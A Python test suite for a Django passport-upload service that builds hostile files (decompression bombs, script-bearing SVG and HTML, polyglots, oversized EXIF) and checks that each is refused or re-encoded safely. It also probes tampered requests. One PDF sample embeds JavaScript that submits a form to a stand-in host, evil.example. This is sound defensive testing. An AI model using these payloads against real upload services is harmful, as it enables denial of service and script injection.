"""A corpus of hostile files, built here, and random bytes (hypothesis) through the upload view:
each gets a clear message in the customer's language or is cleaned into a plain JPEG; nothing
is stored for a refused file; never a 500. Tampered forms, overlong fields, odd methods too."""

import io
import struct
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import Image

from tests.conftest import consent_shown_to
from tests.core import hostile_files
from tests.core.hostile_files import DECODER_BOMBS
from uploads.core import decoding, images, storage
from uploads.core.decoding import DecodeRefused
from uploads.core.images import RejectedFile, normalise_upload
from uploads.documents import selectors as document_selectors
from uploads.models import PassportDocument, UploadRequest
from uploads.requests import services as request_services

# --- building the corpus ------------------------------------------------------------------------


def _jpeg(size=(1200, 800), mode="RGB", **save) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "red" if mode == "RGB" else 120).save(out, format="JPEG", **save)
    return out.getvalue()


def _png(image: Image.Image, **save) -> bytes:
    out = io.BytesIO()
    image.save(out, format="PNG", **save)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_claiming(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + _png_chunk(b"IEND", b"")
    )


def _png_zlib_bomb() -> bytes:
    """Within the pixel limit, but a few KB that inflate to 48 MB of zero rows."""
    width, height = 8000, 2000
    raw = zlib.compress(b"\0" * ((width * 3 + 1) * height), 9)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", raw)
        + _png_chunk(b"IEND", b"")
    )


def _jpeg_with_huge_exif() -> bytes:
    """A JPEG carrying ~60 KB of EXIF (GPS included) and a 60 KB comment."""
    exif = Image.Exif()
    exif[0x010E] = "A" * 60_000  # ImageDescription
    exif[0x8825] = {2: (55.0, 45.0, 0.0)}  # GPS latitude
    return _jpeg(exif=exif.tobytes(), comment=b"C" * 60_000)


def _animated_gif() -> bytes:
    frames = [Image.new("RGB", (900, 600), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, format="GIF", save_all=True, append_images=frames[1:], loop=0)
    return out.getvalue()


def _animated_png() -> bytes:
    frames = [Image.new("RGB", (900, 600), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, format="PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


_pdf = hostile_files.pdf


def _pdf_with_javascript() -> bytes:
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names<</JavaScript<</Names[(x) 4 0 R]>>>>>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
            b"<</S/JavaScript/JS(app.alert('hi'); this.submitForm('https://evil.example/'))>>",
        ]
    )


def _pdf_with_pages(count: int) -> bytes:
    kids = " ".join(f"{3 + index} 0 R" for index in range(count)).encode()
    pages = [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>" for _index in range(count)]
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[" + kids + b"]/Count %d>>" % count,
            *pages,
        ]
    )


def _saved(format_name: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (900, 600)).save(out, format=format_name)
    return out.getvalue()


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
HTML = b"<!doctype html><html><body><script>fetch('/admin/')</script></body></html>"
PAYLOAD = b"<script>alert('polyglot')</script>"

# name, bytes, what must happen ("refused" or "cleaned": stored as a fresh JPEG)
CORPUS: list[tuple[str, bytes, str]] = [
    ("zero-bytes.jpg", b"", "refused"),
    ("truncated.jpg", _jpeg((2000, 1500))[:5000], "refused"),
    ("corrupt.jpg", _jpeg()[:600] + bytes(range(256)) * 40, "refused"),
    ("header-only.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "refused"),
    ("bomb-dimensions.png", _png_claiming(100_000, 100_000), "refused"),
    ("bomb-zero-size.png", _png_claiming(0, 0), "refused"),
    ("svg-renamed.jpg", SVG, "refused"),
    ("html-renamed.png", HTML, "refused"),
    ("animated.gif", _animated_gif(), "refused"),
    ("tiff.jpg", _saved("TIFF"), "refused"),
    ("webp.jpg", _saved("WEBP"), "refused"),
    ("pdf-garbage.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 10, "refused"),
    ("zlib-bomb.png", _png_zlib_bomb(), "cleaned"),
    ("huge-exif.jpg", _jpeg_with_huge_exif(), "cleaned"),
    ("cmyk.jpg", _jpeg(mode="CMYK"), "cleaned"),
    ("16-bit.png", _png(Image.new("I;16", (1200, 800), 30000)), "cleaned"),
    ("animated.png", _animated_png(), "cleaned"),
    ("polyglot-jpeg-html.jpg", _jpeg() + PAYLOAD, "cleaned"),
    ("polyglot-pdf-html.pdf", _pdf_with_pages(1) + PAYLOAD, "cleaned"),
    ("pdf-javascript.pdf", _pdf_with_javascript(), "cleaned"),
    ("pdf-5000-pages.pdf", _pdf_with_pages(5000), "cleaned"),
]


def _post(client: Client, name: str, data: bytes):  # type: ignore[no-untyped-def]
    # A plain file object, not SimpleUploadedFile: that refuses names such as "/" on our side,
    # while a hostile browser can send any name at all.
    upload = io.BytesIO(data)
    upload.name = name
    return client.post(
        "/upload/",
        {
            "consent": "on",
            "consent_document_id": consent_shown_to(client),
            "file": upload,
        },
    )


def _stored_files() -> list[Path]:
    root = Path(storage.passport_storage().location)
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


@pytest.mark.parametrize(("name", "data", "outcome"), CORPUS, ids=[case[0] for case in CORPUS])
def test_it_handles_each_hostile_file(customer, upload_request, name, data, outcome):
    response = _post(customer, name, data)
    documents = PassportDocument.objects.filter(upload_request=upload_request)
    if outcome == "refused":
        assert response.status_code == 400
        assert 'class="errorlist' in response.content.decode()
        assert documents.count() == 0
        assert _stored_files() == []
        return
    assert response.status_code == 302, response.content.decode()[:2000]
    document = documents.get()
    stored = storage.blob_read(
        key=document_selectors.document_key(document), name=document.blob_name
    )
    # A fresh JPEG: nothing of the original's payload or metadata survives.
    assert stored.startswith(b"\xff\xd8")
    assert PAYLOAD not in stored and b"AAAAAAAA" not in stored and b"CCCCCCCC" not in stored
    assert Image.open(io.BytesIO(stored)).getexif() == {}
    # Never written in the clear.
    assert all(b"JFIF" not in path.read_bytes()[:64] for path in _stored_files())


@pytest.mark.parametrize(("name", "build"), DECODER_BOMBS, ids=[name for name, _ in DECODER_BOMBS])
def test_it_refuses_each_file_built_to_burn_a_decoder(customer, upload_request, name, build):
    response = _post(customer, name, build())
    assert response.status_code == 400
    page = response.content.decode()  # the link's order is in Russian
    assert 'class="errorlist' in page
    assert "Файл слишком сложен для обработки" in page or "Изображение слишком велико" in page
    assert not PassportDocument.objects.filter(upload_request=upload_request).exists()
    assert _stored_files() == []


def test_it_refuses_a_file_built_to_burn_a_decoder_in_the_customers_language(client, shop):
    link = request_services.order_create(
        shop_id=shop.pk, number="K-1", customer_name="Aru", language="kk"
    )
    client.get(f"/u/{link.token}/")
    response = _post(client, "palette.png", hostile_files.palette_png_7000())
    assert response.status_code == 400
    assert "Суретті өңдеу мүмкін емес" in response.content.decode()


def test_it_refuses_every_refused_case_with_a_reason_code():
    for name, data, outcome in CORPUS:
        if outcome == "refused":
            with pytest.raises(RejectedFile) as caught:
                normalise_upload(data)
            assert caught.value.code and str(caught.value.message), name


# --- random bytes ------------------------------------------------------------------------------

_VALID_JPEG = _jpeg()


@hypothesis_settings(max_examples=300, deadline=None)
@given(st.binary(max_size=4096))
def test_it_never_crashes_on_random_bytes(data):
    try:
        normalise_upload(data)
    except RejectedFile as rejected:
        assert str(rejected.message)


@hypothesis_settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(_VALID_JPEG) - 1), st.integers(0, 255)), max_size=20))
def test_it_never_crashes_on_a_damaged_jpeg(flips):
    data = bytearray(_VALID_JPEG)
    for position, value in flips:
        data[position] = value
    # The decoder itself, in this process: a child process for each of 200 examples would take
    # minutes, and what is tested is that every failure of a decoder becomes a refusal code.
    try:
        result = decoding.normalise(bytes(data), images.decode_limits())
    except DecodeRefused as refused:
        assert str(images.rejection(refused.code).message)
    else:
        assert result.jpeg.startswith(b"\xff\xd8")


@hypothesis_settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.binary(max_size=2048), name=st.text(max_size=300))
@example(data=b"", name="/")  # a name with no file name in it (found by hypothesis)
def test_it_answers_random_uploads_with_400_and_stores_nothing(customer, upload_request, settings, data, name):  # fmt: skip
    settings.RATE_LIMIT_UPLOADS_PER_DAY = 10_000
    settings.RATE_LIMIT_PAGES_PER_MINUTE = 10_000
    before = PassportDocument.objects.count()
    response = _post(customer, name or "x", data)
    assert response.status_code == 400
    assert PassportDocument.objects.count() == before


# --- tampered requests ------------------------------------------------------------------------


@pytest.mark.parametrize("method", ["put", "patch", "delete", "options"])
@pytest.mark.parametrize(
    "path", ["/upload/", "/upload/review/", "/upload/done/", "/upload/withdraw/"]
)
def test_it_refuses_unexpected_methods(customer, method, path):
    assert getattr(customer, method)(path).status_code == 405


@pytest.mark.parametrize("method", ["post", "put", "delete"])
def test_it_refuses_unexpected_methods_on_the_link(client, link, method):
    assert getattr(client, method)(f"/u/{link.token}/").status_code == 405


def test_it_answers_an_overlong_link_with_the_friendly_page(client, db):
    assert client.get("/u/" + "A" * 10_000 + "/").status_code == 404


def test_it_refuses_overlong_fields_on_the_review(customer, upload_request, passport_jpeg):
    assert _post(customer, "p.jpg", passport_jpeg).status_code == 302
    fields = {
        "surname": "E" * 100_000,
        "given_names": "A" * 100_000,
        "number": "9" * 5000,
        "nationality": "UTO",
        "date_of_birth": "1974-08-12",
        "sex": "F",
    }
    response = customer.post("/upload/review/", fields)
    assert response.status_code == 400
    upload_request.refresh_from_db()
    assert upload_request.status == UploadRequest.Status.WAITING


def test_it_refuses_a_form_body_over_the_limit(customer, passport_jpeg, settings):
    assert _post(customer, "p.jpg", passport_jpeg).status_code == 302
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    response = customer.post("/upload/review/", {"surname": "E" * 20_000})
    assert response.status_code == 400


@pytest.mark.parametrize("path", ["/upload/review/", "/upload/withdraw/"])
def test_it_refuses_posts_without_the_csrf_token(link, upload_request, path):
    browser = Client(enforce_csrf_checks=True)
    browser.get(f"/u/{link.token}/")
    response = browser.post(path, {"surname": "X"})
    assert response.status_code == 403
    upload_request.refresh_from_db()
    assert upload_request.erased_at is None


def test_it_refuses_a_consent_document_id_out_of_range(customer):
    response = customer.post(
        "/upload/",
        {
            "consent": "on",
            "consent_document_id": str(2**70),
            "file": SimpleUploadedFile("a.jpg", _VALID_JPEG),
        },
    )
    assert response.status_code == 400
    assert PassportDocument.objects.count() == 0


def test_it_takes_only_one_file_when_several_are_sent(customer, upload_request):
    response = customer.post(
        "/upload/",
        {
            "consent": "on",
            "consent_document_id": consent_shown_to(customer),
            "file": [SimpleUploadedFile("a.jpg", _VALID_JPEG), SimpleUploadedFile("b.svg", SVG)],
        },
    )
    assert response.status_code in (302, 400)
    assert PassportDocument.objects.filter(upload_request=upload_request).count() <= 1
